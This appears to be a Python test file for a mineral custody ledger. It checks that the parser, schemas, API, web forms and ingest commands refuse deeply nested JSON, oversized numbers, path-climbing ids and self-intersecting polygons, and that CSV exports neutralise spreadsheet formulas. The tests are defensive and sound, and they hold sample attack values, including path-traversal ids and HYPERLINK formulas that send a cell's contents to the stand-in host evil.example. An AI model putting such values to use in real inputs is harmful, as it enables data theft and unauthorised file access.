"""Issue #15, part B: no input crashes a write. Deep nesting, numbers beyond what RFC 8785
hashes (SPEC 4 "Numbers"), ids that climb paths, self-intersecting polygons and
spreadsheet formulas are refused (or neutralised) with a clear answer that names the
field, at the parser, the schemas, the API, the pages and `ingest`; nothing is written.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient

from ledger.cli.app import cli
from ledger.custody.schema import validate_payload
from ledger.errors import InputError
from ledger.log import canonical
from ledger.log.canonical import canonical_text, parse
from ledger.recorder.events import Event, Ledger
from tests.conftest import Auth
from webui.pages import links

API = "/api/v1"
MAX_DEPTH = 64  # ledger.log.canonical.MAX_DEPTH
SQUARE = [[-0.9, 5.9], [-0.7, 5.9], [-0.7, 6.1], [-0.9, 6.1], [-0.9, 5.9]]
BOW_TIE = [[-0.9, 5.9], [-0.7, 6.3], [-0.7, 5.9], [-0.9, 6.3], [-0.9, 5.9]]
PURCHASE = {"parcel_id": "P-1", "site_id": "S-AKW", "seller": "Kofi Boateng",
            "date": "2008-03-14", "carats": 12.5, "stones": 40,
            "price": {"amount": 900, "currency": "USD"}}
SITE = {"site_id": "S-2", "name": "Pit 2", "location": {"type": "Point",
                                                        "coordinates": [-0.79, 6.05]},
        "licence_no": "GH/SSML/1995-014", "operator": "Cooperative", "country": "GH",
        "date": "2008-01-05"}
ZONE = {"zone_id": "Z-2", "zone_type": "licence", "geometry": {"type": "Polygon",
                                                                "coordinates": [SQUARE]},
        "date": "2004-01-06", "valid_from": "2000-01-01", "valid_to": None,
        "licence_no": "GH-ML-AKW-2", "holder": "Akwatia Diggers Cooperative"}
FLAG = {"flag_id": "F-X1", "subject": {"type": "actor", "id": "aud-1"}, "code": "IN_RISK_AREA",
        "detail": "Seen at the market", "evidence": {"note": "ok"}, "date": "2008-03-15"}
EXAMPLES = {"parcel.purchased": PURCHASE, "site.registered": SITE, "zone.registered": ZONE,
            "flag.raised": FLAG}


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def with_json(kind: str, path: str, literal: str) -> dict[str, Any]:
    """The kind's example payload with the field at ``path`` (dots) set to a JSON literal,
    read by the ledger's parser as the API and `ingest` read it."""
    payload = copy.deepcopy(EXAMPLES[kind])
    *parents, last = path.split(".")
    holder = payload
    for key in parents:
        holder = holder[key]
    holder[last] = "__HERE__"
    text = json.dumps(payload).replace('"__HERE__"', literal)
    value: dict[str, Any] = parse(text)
    return value


# -- finding 1: nesting is bounded where the text is parsed ---------------------------------

@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 500, 600, 900, 999, 10_000])
def test_parse_refuses_nesting_beyond_the_bound(depth: int) -> None:
    with pytest.raises(InputError, match=f"nested too deeply: more than {MAX_DEPTH} levels"):
        parse(nested(depth))


def test_parse_takes_nesting_up_to_the_bound_and_brackets_in_strings() -> None:
    assert canonical.MAX_DEPTH == MAX_DEPTH
    assert parse(nested(MAX_DEPTH))
    text = json.dumps({"note": "[" * 5000, "list": [[1]]})
    assert parse(text)["note"] == "[" * 5000


# -- finding 2: SPEC 4 "Numbers" -------------------------------------------------------------

NUMBER_REFUSALS = [
    ("carats-20-decimals", "parcel.purchased", "carats", "1.00000000000000000001",
     "payload.carats", "must have at most two decimals"),
    ("amount-18-decimals", "parcel.purchased", "price.amount", "475.000000000000000001",
     "payload.price.amount", "must have at most two decimals"),
    ("carats-3-decimals", "parcel.purchased", "carats", "1.001",
     "payload.carats", "must have at most two decimals"),
    ("altitude-1e16", "site.registered", "location.coordinates",
     "[-0.79, 6.05, 1e16]", "payload.location.coordinates[2]",
     "must be an altitude in metres between -10000 and 10000"),
    ("altitude-10001", "site.registered", "location.coordinates", "[-0.79, 6.05, 10001]",
     "payload.location.coordinates[2]", "between -10000 and 10000"),
    ("four-coordinates", "site.registered", "location.coordinates", "[-0.79, 6.05, 1, 2]",
     "payload.location.coordinates", "[longitude, latitude, altitude]"),
    ("latitude-91", "site.registered", "location.coordinates", "[-0.79, 91]",
     "payload.location.coordinates[1]", "latitude between -90 and 90"),
    ("evidence-2-53", "flag.raised", "evidence.n", "9007199254740992",
     "payload.evidence.n", "too large"),
    ("evidence-minus-2-53", "flag.raised", "evidence.n", "-9007199254740992",
     "payload.evidence.n", "too large"),
    ("evidence-1e16-deep", "flag.raised", "evidence.a", '{"b": [0, 1e16]}',
     "payload.evidence.a.b[1]", "too large"),
    ("evidence-huge-int", "flag.raised", "evidence.n", "1" + "0" * 40,
     "payload.evidence.n", "too large"),
    ("evidence-1e400", "flag.raised", "evidence.n", "1e400", "payload.evidence.n", "too large"),
    ("bbox-1e300", "zone.registered", "geometry.bbox", "[-1e300, 0, 1, 1]",
     "payload.geometry.bbox[0]", "too large"),
]


@pytest.mark.parametrize(("kind", "path", "literal", "field", "words"),
                         [case[1:] for case in NUMBER_REFUSALS],
                         ids=[case[0] for case in NUMBER_REFUSALS])
def test_numbers_spec_4_refuses_name_the_field(kind: str, path: str, literal: str, field: str,
                                               words: str) -> None:
    payload = with_json(kind, path, literal)
    with pytest.raises(InputError) as caught:
        validate_payload(kind, payload)
    error = caught.value
    assert error.rule == "SCHEMA"
    assert error.data["field"] == field, error.message
    assert words in error.message and error.message.startswith(field)


@pytest.mark.parametrize(("kind", "path", "literal"), [
    ("parcel.purchased", "carats", "12.50"),
    ("parcel.purchased", "price.amount", "4.75e2"),
    ("site.registered", "location.coordinates", "[-0.79, 6.05, -9999.5]"),
    ("flag.raised", "evidence.n", "9007199254740991"),
    ("flag.raised", "evidence.n", "-9007199254740991"),
    ("flag.raised", "evidence.n", "333333333.33333329"),  # RFC 8785 3.2.2: a double in JCS form
    ("flag.raised", "evidence.n", "1e-400"),
])
def test_numbers_within_spec_4_pass(kind: str, path: str, literal: str) -> None:
    payload = with_json(kind, path, literal)
    validate_payload(kind, payload)
    canonical_text(payload)  # hashable by RFC 8785


def test_an_inexact_literal_is_its_double_to_the_encoder() -> None:
    value = parse("[333333333.33333329, 1.00000000000000000001]")
    assert all(type(v) is canonical.Inexact for v in value)
    assert canonical_text(value) == "[333333333.3333333,1]"  # RFC 8785 3.2.2 example


# -- finding 3: ids -------------------------------------------------------------------------

ID_REFUSALS = [
    ("climbs", "parcel.purchased", "parcel_id", "Q/../../admin/users"),
    ("slash", "parcel.purchased", "site_id", "S/1"),
    ("backslash", "parcel.purchased", "parcel_id", "Q\\..\\admin"),
    ("dot", "parcel.purchased", "parcel_id", "."),
    ("dot-dot", "parcel.purchased", "parcel_id", ".."),
    ("control", "parcel.purchased", "parcel_id", "P-1\u0000"),
    ("newline", "parcel.purchased", "parcel_id", "P-1\n"),
    ("flag-id", "flag.raised", "flag_id", "F/../1"),
    ("subject-id", "flag.raised", "subject.id", "aud/1"),
    ("licence-dot-dot", "site.registered", "licence_no", "GH/../x"),
    ("licence-dot", "site.registered", "licence_no", "GH/./x"),
]


@pytest.mark.parametrize(("kind", "path", "ident"), [c[1:] for c in ID_REFUSALS],
                         ids=[c[0] for c in ID_REFUSALS])
def test_ids_that_would_climb_a_path_are_refused(kind: str, path: str, ident: str) -> None:
    payload = with_json(kind, path, json.dumps(ident))
    with pytest.raises(InputError) as caught:
        validate_payload(kind, payload)
    assert caught.value.rule == "SCHEMA"
    assert caught.value.data["field"] == f"payload.{path}"


def test_licence_numbers_keep_their_slashes() -> None:
    validate_payload("site.registered", SITE)  # GH/SSML/1995-014


def test_demo_scenario_ids_stay_valid() -> None:
    from ledger.custody.schema import KINDS

    scenario = Path(__file__).resolve().parent.parent / "sample_data/scenario/events.jsonl"
    for line in scenario.read_text("utf-8").splitlines():
        event = parse(line)
        if event["kind"] in KINDS:
            validate_payload(event["kind"], event["payload"])


@pytest.mark.parametrize(("ident", "href"), [
    ("GH-P-1", "/parcels/GH-P-1"),
    ("Q/../../admin/users", "/parcels/Q%2F..%2F..%2Fadmin%2Fusers"),
    ("Q\\..\\x", "/parcels/Q%5C..%5Cx"),
    ("..", "/parcels/%2E%2E"),
    ("a b?c#d", "/parcels/a%20b%3Fc%23d"),
])
def test_links_quote_ids_written_before_the_refusal(app: Flask, ident: str, href: str) -> None:
    with app.test_request_context():
        assert links.record("parcel", ident) == href


# -- finding 5: polygons ----------------------------------------------------------------------

POLYGON_REFUSALS = [
    ("site-bow-tie", "site.registered", "location",
     {"type": "Polygon", "coordinates": [BOW_TIE]}, "Self-intersection at -0.8 6.1"),
    ("zone-bow-tie", "zone.registered", "geometry",
     {"type": "Polygon", "coordinates": [BOW_TIE]}, "Self-intersection at -0.8 6.1"),
    ("zone-overlapping-parts", "zone.registered", "geometry",
     {"type": "MultiPolygon", "coordinates": [[SQUARE], [SQUARE]]}, "Self-intersection"),
]


@pytest.mark.parametrize(("kind", "key", "geometry", "reason"), [c[1:] for c in POLYGON_REFUSALS],
                         ids=[c[0] for c in POLYGON_REFUSALS])
def test_invalid_polygons_are_refused_with_the_reason(kind: str, key: str,
                                                      geometry: dict[str, Any],
                                                      reason: str) -> None:
    payload = {**EXAMPLES[kind], key: geometry}
    with pytest.raises(InputError) as caught:
        validate_payload(kind, payload)
    assert caught.value.rule == "SCHEMA"
    assert caught.value.data["field"] == f"payload.{key}"
    assert reason in caught.value.message and "not a valid polygon" in caught.value.message


# -- the API: refusals named, nothing written, no 500 ----------------------------------------

def _auditor_flag(**changes: Any) -> dict[str, Any]:
    return {"kind": "flag.raised", "payload": {**FLAG, **changes}}


API_REFUSALS = [
    ("nested-600", "auditor", '{"kind":"parcel.purchased","payload":{"junk":' + nested(600)
     + "}}", 400, "MALFORMED_JSON", "body"),
    ("nested-900-evidence", "auditor", json.dumps(_auditor_flag(evidence={"x": "@"})).replace(
        '"@"', nested(900)), 400, "MALFORMED_JSON", "body"),
    ("nested-10000", "buyer", '{"kind":"parcel.purchased","payload":' + "{\"a\":" * 10_000
     + "1" + "}" * 10_001, 400, "MALFORMED_JSON", "body"),
    ("carats-20-decimals", "buyer", json.dumps({"kind": "parcel.purchased", "payload": {
        **PURCHASE, "carats": "@"}}).replace('"@"', "1.00000000000000000001"), 422, "SCHEMA",
     "payload.carats"),
    ("evidence-2-53", "auditor", json.dumps(_auditor_flag(evidence={"n": 2**53})), 422,
     "SCHEMA", "payload.evidence.n"),
    ("evidence-1e400", "auditor", json.dumps(_auditor_flag(evidence={"n": "@"})).replace(
        '"@"', "1e400"), 422, "SCHEMA", "payload.evidence.n"),
    ("altitude-1e16", "buyer", json.dumps({"kind": "parcel.purchased", "payload": {
        **PURCHASE, "dig_location": {"type": "Point", "coordinates": [-0.79, 6.05, 1e16]}}}),
     422, "SCHEMA", "payload.dig_location.coordinates[2]"),
    ("id-climbs", "buyer", json.dumps({"kind": "parcel.purchased", "payload": {
        **PURCHASE, "parcel_id": "Q/../../admin/users"}}), 422, "SCHEMA", "payload.parcel_id"),
    ("bow-tie-site", "officer", json.dumps({"kind": "site.registered", "payload": {
        **SITE, "location": {"type": "Polygon", "coordinates": [BOW_TIE]}}}), 422, "SCHEMA",
     "payload.location"),
    ("nul-in-text", "buyer", json.dumps({"kind": "parcel.purchased", "payload": {
        **PURCHASE, "seller": "Kofi\u0000Boateng"}}), 422, "SCHEMA", "payload.seller"),
    ("nul-in-evidence-key", "auditor", json.dumps(_auditor_flag(evidence={"a\u0000": 1})), 422,
     "SCHEMA", "payload.evidence"),
    ("with-event-id", "auditor", json.dumps({**_auditor_flag(evidence={"n": 2**60}),
                                             "event_id": "ev-big-1"}), 422, "SCHEMA",
     "payload.evidence.n"),
]


@pytest.mark.parametrize(("role", "body", "status", "rule", "field"),
                         [c[1:] for c in API_REFUSALS], ids=[c[0] for c in API_REFUSALS])
def test_api_refuses_with_problem_json_naming_the_field(
    ledger: Ledger, client: FlaskClient, auth: Auth, role: str, body: str, status: int,
    rule: str, field: str,
) -> None:
    headers = {**auth.headers(role), "Content-Type": "application/json"}
    before = ledger.log.size()
    answer = client.post(f"{API}/events", data=body.encode(), headers=headers)
    assert answer.status_code == status, answer.get_data(as_text=True)
    assert answer.mimetype == "application/problem+json"
    problem = answer.get_json()
    assert problem["type"] == rule
    assert field in json.dumps(problem), problem
    assert ledger.log.size() == before


def test_a_refused_event_id_is_still_a_conflict_first(
    ledger: Ledger, client: FlaskClient, auth: Auth,
) -> None:
    """SPEC 4: an event_id used with other content is EVENT_ID_CONFLICT before SCHEMA, so
    the web process's early check must leave an event with an event_id to the writer."""
    headers = {**auth.headers("auditor"), "Content-Type": "application/json"}
    first = client.post(f"{API}/events", headers=headers,
                        json={**_auditor_flag(), "event_id": "ev-once"})
    assert first.status_code == 201, first.get_json()
    again = client.post(f"{API}/events", headers=headers,
                        json={**_auditor_flag(evidence={"n": 2**60}), "event_id": "ev-once"})
    assert again.status_code == 409 and again.get_json()["type"] == "EVENT_ID_CONFLICT"
    same = client.post(f"{API}/events", headers=headers,
                       json={**_auditor_flag(), "event_id": "ev-once"})
    assert same.status_code == 200


# -- `ingest` and `import-zones` ------------------------------------------------------------

@pytest.mark.parametrize(("literal", "field"), [
    ("1e16", "payload.evidence.n"),
    ("9007199254740993", "payload.evidence.n"),
    ("1.00000000000000000001", None),  # free-form: its double, in JCS form (written)
])
def test_ingest_names_the_line_of_a_number_it_refuses(
    ledger: Ledger, auth: Auth, runner: CliRunner, tmp_path: Path, literal: str,
    field: str | None,
) -> None:
    auth.register("auditor", "aud-1")
    line = json.dumps({"kind": "flag.raised", "actor": "aud-1",
                       "payload": {**FLAG, "evidence": {"n": "@"}}}).replace('"@"', literal)
    path = tmp_path / "in.jsonl"
    path.write_text(line + "\n", "utf-8")
    before = ledger.log.size()
    result = runner.invoke(cli, ["ingest", str(path)])
    if field is None:
        assert result.exit_code == 0, result.output
        assert ledger.log.size() == before + 1
        return
    assert result.exit_code == 2, result.output
    assert f"line 1: SCHEMA: {field}" in result.output and "too large" in result.output
    assert "Traceback" not in result.output
    assert ledger.log.size() == before


def test_import_zones_refuses_a_bow_tie(ledger: Ledger, runner: CliRunner,
                                        tmp_path: Path) -> None:
    path = tmp_path / "zones.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [{
        "type": "Feature", "geometry": {"type": "Polygon", "coordinates": [BOW_TIE]},
        "properties": {"zone_id": "Z-BOW", "licence_no": "GH-ML-BOW-1", "holder": "Bow Tie Ltd",
                       "valid_from": "2004-01-01"}}]}), "utf-8")
    before = ledger.log.size()
    result = runner.invoke(cli, ["import-zones", str(path), "--type", "licence"])
    assert result.exit_code == 2, result.output
    assert "Self-intersection" in result.output and "-0.8 6.1" in result.output
    assert ledger.log.size() == before


# -- finding 4: CSV downloads -----------------------------------------------------------------

@pytest.mark.parametrize(("cell", "shown"), [
    ('=HYPERLINK("http://evil.example/","Click")', '\'=HYPERLINK("http://evil.example/","Click")'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain text", "plain text"), (-5, -5), (1.5, 1.5),
])
def test_csv_cells_are_never_formulas(cell: Any, shown: Any) -> None:
    assert links.csv_cell(cell) == shown


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_flags_csv_neutralises_a_formula_in_a_flag(ledger: Ledger, client: FlaskClient,
                                                  auth: Auth) -> None:
    from tests.test_pages import sign_in

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
    auth.register("auditor", "aud-1")
    ledger.write(Event("flag.raised", "aud-1", {**FLAG, "detail": formula}))
    from ledger import accounts
    from ledger.accounts import create_tables

    create_tables(ledger.engine)
    accounts.add_user(ledger.engine, "auditor", "auditor", "aud-1")
    sign_in(client, "auditor")
    answer = client.get("/flags.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    details = [row[-1] for row in rows[1:]]
    assert "'" + formula in details
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# -- the page forms ------------------------------------------------------------------------------

FORM_SITE = {"site_id": "S-NEW", "name": "Pit 2", "location.lon": "", "location.lat": "",
             "licence_no": "GH/SSML/1995-014", "operator": "Cooperative", "country": "GH",
             "date": "2008-01-05", "action": "save"}


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize(("geojson", "words"), [
    ('{"type":"Point","coordinates":' + nested(600) + "}", "nested too deeply"),
    ('{"type":"Feature","geometry":' + '{"a":' * 900 + "0" + "}" * 901, "nested too deeply"),
    ('{"type":"Point","coordinates":[-0.79,6.05,1e16]}', "altitude"),
    (json.dumps({"type": "Polygon", "coordinates": [BOW_TIE]}), "Self-intersection at -0.8 6.1"),
], ids=["nested-600", "feature-nested-900", "altitude-1e16", "bow-tie"])
def test_site_form_refuses_next_to_the_location(ledger: Ledger, client: FlaskClient,
                                                auth: Auth, geojson: str, words: str) -> None:
    from ledger import accounts
    from tests.test_pages import refusal, sign_in, token_of

    auth.register("officer", "off-gh")
    accounts.add_user(ledger.engine, "officer", "officer", "off-gh")
    sign_in(client, "officer")
    before = ledger.log.size()
    answer = client.post("/sites/new", data={"csrf_token": token_of(client, "/sites/new"),
                                             **FORM_SITE, "location.geojson": geojson})
    assert answer.status_code == 422
    assert words in refusal(answer.text, "location")
    assert ledger.log.size() == before


@pytest.mark.parametrize("where", ["seller", "parcel_id", "site_id"])
def test_ingest_refuses_nul_in_a_name_it_would_look_up(
    ledger: Ledger, auth: Auth, runner: CliRunner, tmp_path: Path, where: str,
) -> None:
    """Ingest prefetches what a chunk names before each line is refused; on PostgreSQL a
    NUL in such a name failed that lookup with a traceback (found by the write fuzz)."""
    auth.register("buyer", "buyer-a")
    line = json.dumps({"kind": "parcel.purchased", "actor": "buyer-a",
                       "payload": {**PURCHASE, where: "Kofi\u0000Boateng"}})
    path = tmp_path / "in.jsonl"
    path.write_text(line + "\n", "utf-8")
    before = ledger.log.size()
    result = runner.invoke(cli, ["ingest", str(path)])
    assert result.exit_code == 2, result.output
    assert f"line 1: SCHEMA: payload.{where}" in result.output
    assert ledger.log.size() == before
